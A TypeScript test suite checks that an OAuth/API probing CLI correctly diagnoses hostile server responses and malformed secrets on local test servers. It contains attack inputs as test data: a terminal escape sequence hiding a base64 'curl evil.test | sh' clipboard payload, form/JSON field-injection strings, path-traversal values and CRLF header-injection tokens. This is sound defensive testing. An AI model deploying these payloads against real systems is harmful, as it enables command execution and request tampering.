/**
 * What a server or a secret sends gets the right stage, code and hint, through the CLI a user runs
 * (`run --json` once for every case, and the human output), against servers on 127.0.0.1: certificate
 * days left across the chain, wrong scheme both ways, JWT without exp, kid-less keys, a broken JWKS key,
 * a 404 with an OAuth-looking body, extracted values that would change the path, CRLF and non-ASCII
 * tokens and values, control characters, a 6000-deep claim next to a healthy probe, and a client
 * certificate that does not match its key.
 */
import { generateKeyPairSync, sign } from 'node:crypto';
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import { connect, type Socket } from 'node:net';
import { exportJWK } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createCertificateAuthority,
  createIntermediateCertificateAuthority,
  createServerCert,
  createTestPki,
} from '../../tools/local-servers/index.js';
// biome-ignore lint/style/noRestrictedImports: the engine tests' inline server
import { type InlineServer, startInlineServer } from '../engine/helpers.js';
import { runCli, workspace } from '../tools/cli/helpers.js';

const DAY_MS = 86_400_000;
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const ESCAPES = '\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007\u001b[2J\u001b]0;pwned\u0007';
const ISSUER = 'https://issuer.example.test';
const AUDIENCE = 'https://api.example.test';

interface Result {
  probe: string;
  status: string;
  stage: string | null;
  code: string | null;
  message: string | null;
  hint: string | null;
  exchanges: { name: string; url: string; status: number | null; certDaysLeft?: number }[];
}

const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const other = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const b64url = (text: string) => Buffer.from(text).toString('base64url');
function signedJwt(header: Record<string, unknown>, claimsJson: string): string {
  const input = `${b64url(JSON.stringify({ alg: 'ES256', typ: 'at+jwt', ...header }))}.${b64url(claimsJson)}`;
  const signature =
    header.alg === 'RS256'
      ? sign('sha256', Buffer.from(input), rsa.privateKey)
      : sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}
const claims = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ iss: ISSUER, aud: AUDIENCE, sub: 's', exp: Math.floor(Date.now() / 1000) + 600, ...extra });

/** Discovery metadata of the wrong type or shape, by issuer path (`/iss/<case>`). */
const METADATA: Record<string, Record<string, unknown>> = {
  ok: {},
  'endpoint-not-url': { token_endpoint: 'not a url' },
  'grant-types-number': { grant_types_supported: 5 },
  'auth-methods-object': { token_endpoint_auth_methods_supported: {} },
};

/** A value that would add a field to a form body, or end a JSON string and add a member. */
const INJECTION = 'a&admin=1","admin":true,"x":"';

/** Values the first API step hands to the second: none may change the second's path. */
const EXTRACTED: Record<string, string> = {
  dotdot: '..',
  slash: '/',
  encoded: '%2e%2e',
  dotslash: '../..',
};

interface ConnectProxy {
  url: string;
  /** `host:port` of every CONNECT. */
  tunnels: string[];
  close(): Promise<void>;
}

/** An HTTP CONNECT proxy on 127.0.0.1 that tunnels every host to one local port: remote names, loopback traffic. */
async function startConnectProxy(port: number): Promise<ConnectProxy> {
  const sockets = new Set<Socket>();
  const server = createHttpServer((_req, res) => res.writeHead(405).end());
  const tunnels: string[] = [];
  server.on('connect', (req: IncomingMessage, client: Socket, head: Buffer) => {
    tunnels.push(req.url ?? '');
    const upstream = connect(port, '127.0.0.1', () => {
      client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
      if (head.length > 0) upstream.write(head);
      upstream.pipe(client);
      client.pipe(upstream);
    });
    for (const socket of [client, upstream]) {
      sockets.add(socket);
      socket.on('error', () => {
        client.destroy();
        upstream.destroy();
      });
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as { port: number }).port}`,
    tunnels,
    close: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

describe('diagnosis of hostile server and secret input, through the CLI', () => {
  let plain: InlineServer;
  let proxy: ConnectProxy;
  let tls: HttpsServer;
  let tlsUrl: string;
  const apiPaths: string[] = [];
  let results: Record<string, Result>;
  let human: { code: number | null; stdout: string; stderr: string };
  let jsonRun: { code: number | null; stdout: string; stderr: string };

  beforeAll(async () => {
    const jwk = { ...(await exportJWK(publicKey)), alg: 'ES256', use: 'sig' };
    const otherJwk = { ...(await exportJWK(other.publicKey)), alg: 'ES256', use: 'sig' };
    const tokens: Record<string, unknown> = {
      ok: { access_token: 'opaque-token-ok', token_type: 'Bearer', expires_in: 300 },
      crlf: { access_token: 'abc\r\nX-Injected: 1', token_type: 'Bearer', expires_in: 300 },
      nonascii: { access_token: 'tökén-ü✓', token_type: 'Bearer', expires_in: 300 },
      'jwt-noexp': {
        access_token: signedJwt({ kid: 'k1' }, claims({ exp: undefined })),
        token_type: 'Bearer',
        expires_in: 300,
      },
      'jwt-kidless': { access_token: signedJwt({}, claims()), token_type: 'Bearer', expires_in: 300 },
      'jwt-nbf': {
        access_token: signedJwt({ kid: 'k1' }, claims({ nbf: 1e13, iat: 1e13 })),
        token_type: 'Bearer',
        expires_in: 300,
      },
      'jwt-exp': {
        access_token: signedJwt({ kid: 'k1' }, claims({ exp: -1e13 })),
        token_type: 'Bearer',
        expires_in: 300,
      },
      'jwt-rsa': {
        access_token: signedJwt({ alg: 'RS256', kid: 'r1' }, claims()),
        token_type: 'Bearer',
        expires_in: 300,
      },
      'jwt-deep': {
        access_token: signedJwt({}, `{"sub":"s","aud":${'['.repeat(6000)}"x"${']'.repeat(6000)}}`),
        token_type: 'Bearer',
        expires_in: 300,
      },
    };
    const jwks: Record<string, unknown> = {
      good: { keys: [{ ...jwk, kid: 'k1' }] },
      kidless: { keys: [otherJwk, jwk] },
      // The token's kid and alg, but a modulus that is no base64url / far too short for an RSA key.
      badmodulus: { keys: [{ kty: 'RSA', n: '!!!', e: 'AQAB', kid: 'r1', alg: 'RS256' }] },
      shortmodulus: { keys: [{ kty: 'RSA', n: 'AQAB', e: 'AQAB', kid: 'r1', alg: 'RS256' }] },
    };
    const handle = (req: IncomingMessage, res: ServerResponse) => {
      const path = (req.url ?? '/').split('?')[0]!;
      const [, kind, name] = path.split('/');
      const json = (status: number, body: unknown) => {
        res.writeHead(status, { 'content-type': 'application/json' });
        res.end(typeof body === 'string' ? body : JSON.stringify(body));
      };
      if (kind === '.well-known') {
        // RFC 8414: /.well-known/oauth-authorization-server/iss/<case>; the issuer is http://<host>/iss/<case>.
        const scenario = path.split('/').at(-1) ?? '';
        const origin = `http://${req.headers.host}`;
        return json(200, {
          issuer: `${origin}/iss/${scenario}`,
          token_endpoint: `${origin}/token/jwt-kidless`,
          jwks_uri: `${origin}/jwks/good`,
          grant_types_supported: ['client_credentials'],
          ...METADATA[scenario],
        });
      }
      if (kind === 'redirect') {
        res.writeHead(302, { location: 'http://[::1' });
        return res.end();
      }
      if (kind === 'token' && name === '404json') return json(404, { error: 'not_found' });
      if (kind === 'token' && name === 'escapes')
        return json(400, { error: 'invalid_scope', error_description: `scope refused ${ESCAPES} really` });
      if (kind === 'token') return json(200, tokens[name ?? ''] ?? tokens.ok);
      if (kind === 'jwks') return json(200, jwks[name ?? '']);
      if (kind === 'first') {
        const special: Record<string, string> = { crlf: 'a\r\nb', inject: INJECTION, space: 'a b' };
        const id = special[name ?? ''] ?? EXTRACTED[name ?? ''];
        return json(200, { id });
      }
      apiPaths.push(path);
      return json(200, { ok: true });
    };
    plain = await startInlineServer(handle);
    proxy = await startConnectProxy(Number(new URL(plain.url).port));

    // A 90-day leaf under an intermediate that expires in 5 days, trusted through the root.
    const now = Date.now();
    const root = await createCertificateAuthority('hostile test root');
    const intermediate = await createIntermediateCertificateAuthority(root, 5);
    const leaf = await createServerCert(intermediate, {
      notBefore: new Date(now - DAY_MS),
      notAfter: new Date(now + 90 * DAY_MS),
    });
    tls = createHttpsServer({ cert: `${leaf.cert}\n${intermediate.cert}`, key: leaf.key }, (req, res) => {
      req.resume();
      req.on('end', () => handle(req, res));
    });
    await new Promise<void>((resolve) => tls.listen(0, '127.0.0.1', resolve));
    tlsUrl = `https://127.0.0.1:${(tls.address() as { port: number }).port}`;

    const [pki, otherPki] = await Promise.all([createTestPki(), createTestPki({ clientCn: 'someone-else' })]);
    const ws = await workspace();
    await ws.write('root.pem', root.cert);
    await ws.write('secrets.json', {
      basic: { client_id: 'c', client_secret: 'secret-value-0123' },
      mismatched: { client_id: 'c', certificate: pki.client.cert, private_key: otherPki.client.key },
    });
    const plainPort = new URL(plain.url).port;
    const token = (name: string) => `${plain.url}/token/${name}`;
    const jwt = (jwksName: string) => ({
      token: { jwt: { issuer: ISSUER, audience: AUDIENCE, jwksUri: `${plain.url}/jwks/${jwksName}` } },
    });
    const base = { credentials: { secretId: 'basic' }, timeoutMs: 3000 };
    const extractSteps = (value: string, header = false) => [
      { name: 'first', request: { url: `${plain.url}/first/${value}` }, extract: { id: 'id' } },
      {
        name: 'second',
        request: header
          ? { url: `${plain.url}/items/fixed/details`, headers: { 'x-id': '{{id}}' } }
          : { url: `${plain.url}/items/{{id}}/details` },
      },
    ];
    await ws.write('probes.json', {
      probes: [
        { ...base, name: 'chain', tokenUrl: `${tlsUrl}/token/ok`, tls: { ca: 'root.pem' } },
        { ...base, name: 'https-to-plain', tokenUrl: `https://127.0.0.1:${plainPort}/token/ok` },
        { ...base, name: 'http-to-tls', tokenUrl: `${tlsUrl.replace('https:', 'http:')}/token/ok` },
        { ...base, name: 'jwt-noexp', tokenUrl: token('jwt-noexp'), ...jwt('good') },
        { ...base, name: 'jwt-kidless', tokenUrl: token('jwt-kidless'), ...jwt('kidless') },
        { ...base, name: 'jwks-badmodulus', tokenUrl: token('jwt-rsa'), ...jwt('badmodulus') },
        { ...base, name: 'jwks-shortmodulus', tokenUrl: token('jwt-rsa'), ...jwt('shortmodulus') },
        { ...base, name: 'token-404json', tokenUrl: token('404json') },
        ...Object.keys(EXTRACTED).map((name) => ({
          ...base,
          name: `extracted-${name}`,
          tokenUrl: token('ok'),
          steps: extractSteps(name),
        })),
        { ...base, name: 'extracted-crlf-header', tokenUrl: token('ok'), steps: extractSteps('crlf', true) },
        ...[
          ['form', 'application/x-www-form-urlencoded', 'id={{id}}&role=user'],
          ['json', 'application/json', '{"id":"{{id}}","role":"user"}'],
        ].map(([format, contentType, body]) => ({
          ...base,
          name: `body-${format}`,
          tokenUrl: token('ok'),
          steps: [
            { name: 'first', request: { url: `${plain.url}/first/inject` }, extract: { id: 'id' } },
            {
              name: 'second',
              request: {
                method: 'POST',
                url: `${plain.url}/items/${format}/details`,
                headers: { 'content-type': contentType },
                body,
              },
            },
          ],
        })),
        ...['crlf', 'nonascii'].map((name) => ({
          ...base,
          name: `token-${name}`,
          tokenUrl: token(name),
          steps: [{ name: 'api', request: { url: `${plain.url}/items/x/details` } }],
        })),
        { ...base, name: 'escapes', tokenUrl: token('escapes') },
        ...Object.keys(METADATA)
          .filter((name) => name !== 'ok')
          .map((name) => ({ ...base, name: `discovery-${name}`, issuer: `${plain.url}/iss/${name}` })),
        { ...base, name: 'jwt-nbf-1e13', tokenUrl: token('jwt-nbf'), ...jwt('good') },
        { ...base, name: 'jwt-exp-minus-1e13', tokenUrl: token('jwt-exp'), ...jwt('good') },
        {
          ...base,
          name: 'location-invalid',
          tokenUrl: token('ok'),
          steps: [{ name: 'go', request: { url: `${plain.url}/redirect/x`, followRedirects: true } }],
        },
        {
          ...base,
          name: 'templated-url-invalid',
          tokenUrl: token('ok'),
          steps: [
            // A host name with a space in it: no URL once filled in.
            { name: 'first', request: { url: `${plain.url}/first/space` }, extract: { host: 'id' } },
            { name: 'second', request: { url: 'http://{{host}}/items/x/details' } },
          ],
        },
        {
          // Cleartext to remote hosts (tunnelled by a proxy on 127.0.0.1 to the local server).
          ...base,
          name: 'cleartext-discovery',
          issuer: 'http://auth.example.test/iss/ok',
          token: { jwt: { audience: AUDIENCE, issuer: ISSUER } },
          proxy: proxy.url,
        },
        {
          ...base,
          name: 'cleartext-jwks',
          tokenUrl: token('jwt-kidless'),
          token: { jwt: { audience: AUDIENCE, issuer: ISSUER, jwksUri: 'http://keys.example.test/jwks/good' } },
          proxy: proxy.url,
        },
        { ...base, name: 'deep-aud', tokenUrl: token('jwt-deep') },
        { ...base, name: 'healthy', tokenUrl: token('ok') },
        {
          ...base,
          name: 'mtls-mismatch',
          tokenUrl: token('ok'),
          credentials: { secretId: 'mismatched' },
          clientAuth: 'tls_client_auth',
        },
      ],
    });
    const args = ['run', '-c', 'probes.json', '-s', 'secrets.json'];
    jsonRun = await runCli([...args, '--json'], { cwd: ws.dir });
    if (jsonRun.code !== 1) throw new Error(`run --json exited ${jsonRun.code}: ${jsonRun.stderr}`);
    results = Object.fromEntries((JSON.parse(jsonRun.stdout) as Result[]).map((r) => [r.probe, r]));
    human = await runCli([...args, '--verbose'], { cwd: ws.dir });
  }, 60_000);

  afterAll(async () => {
    await proxy?.close();
    await plain?.close();
    tls?.closeAllConnections();
    await new Promise((resolve) => tls?.close(resolve));
  });

  const outcome = (name: string) => {
    const r = results[name]!;
    return `${r.status} ${r.stage}:${r.code}`;
  };

  it('reports certificate days left from the chain: a 90-day leaf under a 5-day intermediate is 5 or fewer', () => {
    expect(outcome('chain')).toBe('pass null:null');
    const days = results.chain!.exchanges[0]!.certDaysLeft!;
    expect(days).toBeLessThanOrEqual(5);
    expect(days).toBeGreaterThanOrEqual(3);
  });

  it('says which scheme the endpoint speaks, both ways', () => {
    expect(results['https-to-plain']!.hint).toMatch(/speaks plain HTTP on this port, not TLS: use http:\/\//);
    expect(results['http-to-tls']!.hint).toMatch(/speaks TLS on this port: use https:\/\//);
    expect(results['https-to-plain']!.code).not.toBe('internal_error');
  });

  it('fails a JWT access token without exp (RFC 9068 §2.2)', () => {
    expect(outcome('jwt-noexp')).toBe('fail token_validation:jwt_claim_invalid');
    expect(results['jwt-noexp']!.message).toMatch(/exp/);
  });

  it('tries each kid-less key of the JWKS', () => {
    expect(outcome('jwt-kidless')).toBe('pass null:null');
  });

  it('blames a JWKS key with a bad modulus on the JWKS', () => {
    expect(outcome('jwks-badmodulus')).toBe('fail token_validation:jwks_unavailable');
    expect(outcome('jwks-shortmodulus')).toBe('fail token_validation:jwks_unavailable');
    expect(results['jwks-badmodulus']!.hint).toMatch(/the provider publishes a broken key/);
  });

  it('gives a 404 with a JSON error body the "is tokenUrl right?" hint', () => {
    expect(outcome('token-404json')).toMatch(/^fail token:/);
    expect(results['token-404json']!.hint).toMatch(/is tokenUrl right/);
  });

  it('never lets an extracted value change the request path', () => {
    for (const name of Object.keys(EXTRACTED)) {
      expect(results[`extracted-${name}`]!.code, name).not.toBe('internal_error');
      expect(results[`extracted-${name}`]!.code, name).not.toBe('connection_error');
    }
    // Every request of a second step kept /items/<one segment>/details.
    expect(apiPaths.length).toBeGreaterThan(0);
    for (const path of apiPaths) expect(path).toMatch(/^\/items\/[^/]+\/details$/);
    expect(apiPaths.some((p) => /^\/items\/(\.|%2e){1,2}\/details$/i.test(p))).toBe(false);
  });

  it('never lets an extracted value add a field to a form or JSON string body', () => {
    expect(outcome('body-form')).toBe('pass null:null');
    expect(outcome('body-json')).toBe('pass null:null');
    const bodyOf = (path: string) => plain.requests.find((r) => r.url === path)!.body;
    const form = new URLSearchParams(bodyOf('/items/form/details'));
    expect([...form.keys()]).toEqual(['id', 'role']);
    expect(form.get('id')).toBe(INJECTION);
    expect(JSON.parse(bodyOf('/items/json/details'))).toEqual({ id: INJECTION, role: 'user' });
  });

  it('blames a CRLF or non-ASCII token, and a CRLF extracted value, on themselves, not on the network', () => {
    for (const name of ['token-crlf', 'token-nonascii', 'extracted-crlf-header']) {
      expect(results[name]!.status, name).toBe('fail');
      expect(results[name]!.code, name).not.toBe('connection_error');
      expect(results[name]!.code, name).not.toBe('internal_error');
    }
    expect(results['token-crlf']!.code).toBe('malformed_access_token');
    expect(results['token-nonascii']!.code).toBe('malformed_access_token');
  });

  it('strips control characters from server text in the human output and --json', () => {
    expect(results.escapes!.message).toContain('really');
    expect(human.stdout).toContain('really');
    expect(CONTROL.test(human.stdout), JSON.stringify(human.stdout.slice(0, 300))).toBe(false);
    expect(CONTROL.test(human.stderr)).toBe(false);
    expect(jsonRun.stdout).not.toMatch(/\\u001b|\\u0007/);
  });

  it('keeps every other probe result next to a 6000-deep aud', () => {
    expect(jsonRun.code).toBe(1);
    expect(results['deep-aud']!.code).not.toBe('internal_error');
    expect(outcome('healthy')).toBe('pass null:null');
    expect(Object.keys(results)).toHaveLength(30);
  });

  it('gives metadata, Location, JWT times and templated URLs the server got wrong a stage and code, never internal_error', () => {
    expect(outcome('discovery-endpoint-not-url')).toMatch(/^fail discovery:discovery_failed$/);
    expect(outcome('discovery-grant-types-number')).not.toMatch(/internal_error/);
    expect(outcome('discovery-auth-methods-object')).not.toMatch(/internal_error/);
    expect(outcome('jwt-nbf-1e13')).toBe('fail token_validation:jwt_not_yet_valid');
    expect(outcome('jwt-exp-minus-1e13')).toBe('fail token_validation:jwt_expired');
    expect(results['jwt-exp-minus-1e13']!.message).toMatch(/-10000000000000 \(out of range\)/);
    expect(outcome('location-invalid')).toMatch(/^fail api:/);
    expect(outcome('location-invalid')).not.toMatch(/internal_error/);
    expect(outcome('templated-url-invalid')).toBe('fail api:assertion_failed');
    expect(results['templated-url-invalid']!.message).toMatch(/not valid once the extracted values are filled in/);
  });

  it('flags plain http:// discovery and JWKS to a remote host as insecure_transport, and still runs', () => {
    const insecure = (name: string) =>
      (results[name] as Result & { warnings: { code: string; message: string }[] }).warnings
        .filter((w) => w.code === 'insecure_transport')
        .map((w) => w.message);
    expect(outcome('cleartext-discovery')).toMatch(/^(pass|degraded) /);
    expect(insecure('cleartext-discovery')).toEqual([
      expect.stringMatching(/^discovery .*anyone on the path can change where the credentials are sent/),
    ]);
    expect(outcome('cleartext-jwks')).toMatch(/^(pass|degraded) /);
    expect(insecure('cleartext-jwks')).toEqual([
      expect.stringMatching(/^JWKS .*anyone on the path can change which signing keys are trusted/),
    ]);
    expect(proxy.tunnels).toContain('auth.example.test:80');
    expect(proxy.tunnels).toContain('keys.example.test:80');
  });

  it('blames a client certificate that does not match its key on the secret', () => {
    expect(outcome('mtls-mismatch')).toBe('fail credentials:secret_malformed');
  });
});
